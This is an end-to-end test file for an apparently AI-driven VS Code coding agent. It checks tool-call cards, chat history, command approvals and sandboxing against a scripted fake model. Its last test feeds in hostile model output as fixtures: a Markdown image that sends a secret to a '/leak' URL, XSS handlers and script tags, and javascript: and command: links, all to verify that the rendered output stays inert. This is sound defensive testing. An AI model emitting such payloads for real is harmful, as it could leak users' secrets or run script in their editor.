import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { artifactsDir } from '../../scripts/paths.mjs';
import { startModelServer } from '../fakes/modelServer.mjs';
import { openPeonView, openPeonWorkbench, resumeFromHistory, sendMessage, startNewChat, UI_WAIT, type Workbench } from './workbench';

// A prompt in the panel of a real VS Code: the answer streams from a scripted
// OpenAI-compatible server, a read tool call appears as a card with its result, then the
// final answer. The model server runs in this process, on loopback.
let model: Awaited<ReturnType<typeof startModelServer>>;
let workbench: Workbench;

beforeAll(async () => {
  model = await startModelServer();
  workbench = await openPeonWorkbench(
    { 'NOTES.md': 'The build is green.\n' },
    { 'peon.model.provider': 'openai', 'peon.model.id': 'fake-model', 'peon.model.baseUrl': model.openaiUrl },
  );
});

afterAll(async () => {
  await workbench?.close();
  await model?.close();
});

test('prompt -> streamed answer -> a read tool call card with its result -> the final answer', async () => {
  model.script(
    { text: 'Let me look at the notes.', toolCalls: [{ id: 'call_1', name: 'read', arguments: '{"path":"NOTES.md"}' }] },
    { text: 'The notes say the build is green.' },
  );
  const chat = await openPeonView(workbench.page);
  await chat.getByRole('textbox', { name: 'Message Peon' }).waitFor({ timeout: UI_WAIT });
  await sendMessage(chat, 'What do the notes say?');

  const card = chat.getByRole('group', { name: 'Tool call read' });
  await card.waitFor({ timeout: UI_WAIT });
  await expect.poll(() => card.locator('.tool-status').textContent(), { timeout: UI_WAIT }).toBe('done');
  await card.locator('.tool-toggle').click();
  expect(await card.locator('.tool-output').textContent()).toBe('1\tThe build is green.');

  const answers = chat.getByRole('article', { name: 'Peon' });
  await expect.poll(() => answers.allTextContents(), { timeout: UI_WAIT }).toEqual(['Let me look at the notes.', 'The notes say the build is green.']);
  // The meter shows the last request's context against the window, and the chat's totals.
  expect(await chat.locator('.meter').textContent()).toMatch(/^\s*Context 120 \/ 128\.0k \(0%\) · this chat: 120 in, 40 out, 80 cached\s*$/);
  // What went to the model: the tool's whole result, answered to the call it belongs to.
  expect(JSON.stringify(model.requests.at(-1)?.body)).toContain('The build is green.');
  fs.mkdirSync(path.join(artifactsDir, 'e2e'), { recursive: true });
  await workbench.page.screenshot({ path: path.join(artifactsDir, 'e2e', 'peon-agent-turn.png') });
});

test('the conversation is saved: after New Chat, Show History brings it back, and it continues', async () => {
  const { page } = workbench;
  await startNewChat(page);
  const chat = await openPeonView(page);
  await chat.getByText('Ask for a change in this workspace.', { exact: false }).waitFor();

  await resumeFromHistory(page, chat, 'What do the notes say?');
  const answers = chat.getByRole('article', { name: 'Peon' });
  await expect.poll(() => answers.allTextContents(), { timeout: UI_WAIT }).toEqual(['Let me look at the notes.', 'The notes say the build is green.']);
  expect(await chat.getByRole('group', { name: 'Tool call read' }).locator('.tool-status').textContent()).toBe('done');

  // The model sees the earlier turns when the conversation goes on.
  model.script({ text: 'Still green.' });
  await sendMessage(chat, 'And now?');
  await expect.poll(() => answers.allTextContents(), { timeout: UI_WAIT }).toContain('Still green.');
  const sent = JSON.stringify(model.requests.at(-1)?.body);
  expect(sent).toContain('What do the notes say?');
  expect(sent).toContain('The notes say the build is green.');
});

test('a command asks on a card; approved, its tool card shows the output while it runs, then the result', async () => {
  const { page } = workbench;
  await startNewChat(page);
  model.script(
    { toolCalls: [{ id: 'b1', name: 'bash', arguments: JSON.stringify({ command: 'for i in 1 2 3 4; do echo tick$i; sleep 0.7; done', description: 'count slowly' }) }] },
    { text: 'Counted to four.' },
  );
  const chat = await openPeonView(page);
  await sendMessage(chat, 'count for me');

  // The approval card, rendered from the command summary: the command in full, and why it asks.
  const approval = chat.getByRole('group', { name: 'Approval: Run a command' });
  await approval.waitFor({ timeout: UI_WAIT });
  expect(await approval.getByRole('region', { name: 'Command' }).or(approval.locator('pre.command')).first().textContent()).toBe('for i in 1 2 3 4; do echo tick$i; sleep 0.7; done');
  expect(await approval.locator('.why summary').textContent()).toBe('Why it asks: Commands that are not on the read-only list ask first');
  await approval.getByRole('button', { name: 'Approve', exact: true }).click();
  await approval.waitFor({ state: 'detached', timeout: UI_WAIT });

  const card = chat.getByRole('group', { name: 'Tool call bash' });
  await card.locator('.tool-toggle').click();
  // While it runs, the card already shows what the command has printed so far.
  await expect.poll(async () => ({ status: await card.locator('.tool-status').textContent(), output: (await card.locator('.tool-output').textContent().catch(() => '')) ?? '' }), { timeout: UI_WAIT })
    .toMatchObject({ status: 'running', output: expect.stringContaining('tick1') });
  await expect.poll(() => card.locator('.tool-status').textContent(), { timeout: UI_WAIT }).toBe('done');
  expect(await card.locator('.tool-output').textContent()).toBe('tick1\ntick2\ntick3\ntick4\n[exit code 0]');
  await expect.poll(() => chat.getByRole('article', { name: 'Peon' }).allTextContents(), { timeout: UI_WAIT }).toEqual(['Counted to four.']);
});

test('a command runs sandboxed (green line; its write outside the workspace stays in its own /tmp); outside the sandbox its red card only asks once, and it writes', async () => {
  const { page } = workbench;
  const outside = path.join(path.dirname(workbench.workspace), 'outside.txt');
  const write = `echo written > ${outside}`;
  await startNewChat(page);
  model.script(
    { toolCalls: [{ id: 's1', name: 'bash', arguments: JSON.stringify({ command: write, description: 'write beside the workspace' }) }] },
    { toolCalls: [{ id: 's2', name: 'bash', arguments: JSON.stringify({ command: write, description: 'write beside the workspace', outside_sandbox: 'the file must be on the host' }) }] },
    { text: 'Written.' },
  );
  const chat = await openPeonView(page);
  await sendMessage(chat, 'write the file beside the workspace');

  const green = chat.getByRole('group', { name: 'Approval: Run a command' });
  await green.waitFor({ timeout: UI_WAIT });
  const line = green.getByLabel('Sandbox');
  expect(await line.textContent()).toMatch(new RegExp(`^Sandboxed — writes: ${fs.realpathSync(workbench.workspace).replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}, private /tmp · network off`));
  expect(await line.getAttribute('class')).toContain('sandbox-sandboxed');
  await page.screenshot({ path: path.join(artifactsDir, 'e2e', 'peon-sandbox-green-card.png') });
  await green.getByRole('button', { name: 'Approve', exact: true }).click();

  // The model's second call asks to leave the sandbox: a red card (the same title), answered only for this once.
  const red = chat.getByRole('group', { name: 'Approval: Run a command' }).filter({ has: chat.locator('.sandbox-unsandboxed') });
  await red.waitFor({ timeout: UI_WAIT });
  // The first call ran, and its write went to its own /tmp.
  expect(await chat.getByRole('group', { name: 'Tool call bash' }).first().locator('.tool-status').textContent()).toBe('done');
  expect(fs.existsSync(outside)).toBe(false);
  expect(await red.getByLabel('Sandbox').textContent()).toBe('NOT sandboxed — run outside the sandbox at the model\'s request: "the file must be on the host": full access to your files and network');
  expect(await red.getByRole('button').allTextContents()).toEqual(['Approve', 'Deny']);
  await page.screenshot({ path: path.join(artifactsDir, 'e2e', 'peon-sandbox-red-card.png') });
  await red.getByRole('button', { name: 'Approve', exact: true }).click();
  await expect.poll(() => chat.getByRole('article', { name: 'Peon' }).allTextContents(), { timeout: UI_WAIT }).toEqual(['Written.']);
  expect(fs.readFileSync(outside, 'utf8')).toBe('written\n');
});

test('model output renders as Markdown; images, scripts and javascript: links in it stay inert, live and restored', async () => {
  const { page } = workbench;
  await startNewChat(page);
  const leak = `${model.openaiUrl.replace(/\/v1\/?$/, '')}/leak`;
  const hostile = [
    '## Findings',
    `The **key** is in \`.env\`. ![chart](${leak}/md-image?k=secret)`,
    `<img src="${leak}/html-image" onerror="document.title='pwned'">`,
    `<svg onload="document.title='pwned'"></svg> <script>document.title='pwned'</script>`,
    '[run this](javascript:document.title=1) [or this](command:workbench.action.quit) [docs](https://example.com/docs)',
  ].join('\n\n');
  model.script({ text: hostile });
  const chat = await openPeonView(page);
  await sendMessage(chat, 'what did you find?');

  const answer = chat.getByRole('article', { name: 'Peon' });
  const inert = async (): Promise<void> => {
    await answer.locator('h4', { hasText: 'Findings' }).waitFor({ timeout: UI_WAIT });
    expect(await answer.locator('strong').textContent()).toBe('key');
    expect(await answer.locator('img, svg, script, iframe').count()).toBe(0);
    expect(await answer.locator('a').evaluateAll((links) => links.map((a) => a.getAttribute('href')))).toEqual(['https://example.com/docs']);
    expect(await answer.textContent()).toContain('[image: chart]');
    expect(model.requests.filter((r) => r.url.startsWith('/leak'))).toEqual([]);
  };
  await inert();

  await startNewChat(page);
  await resumeFromHistory(page, chat, 'what did you find?');
  await inert();
});
